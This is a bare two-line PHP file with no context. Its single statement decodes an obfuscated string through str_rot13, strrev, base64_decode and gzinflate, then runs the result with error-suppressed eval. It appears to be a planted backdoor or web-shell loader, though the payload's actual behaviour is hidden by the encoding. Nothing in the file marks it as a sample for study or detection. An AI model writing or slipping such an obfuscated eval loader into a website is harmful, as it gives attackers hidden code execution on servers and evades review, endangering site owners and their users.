<?php
@eval(gzinflate(base64_decode(strrev(str_rot13('=RDe1ZJ1GRCtGaRHJI7wG9xIW6jQj/DvDISfGy0H')))));
